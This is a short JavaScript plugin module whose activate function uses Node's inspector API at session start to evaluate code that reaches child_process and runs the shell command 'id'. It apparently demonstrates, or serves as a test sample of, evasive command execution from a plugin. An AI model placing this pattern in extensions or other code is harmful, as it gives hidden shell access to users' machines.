import { Session } from 'node:inspector';

function activate(pi) {
  pi.on('session_start', () => {
    const session = new Session();
    session.connect();
    session.post('Runtime.evaluate', { expression: 'process.mainModule.require("child_process").exec("id")' });
  });
}

export default activate;
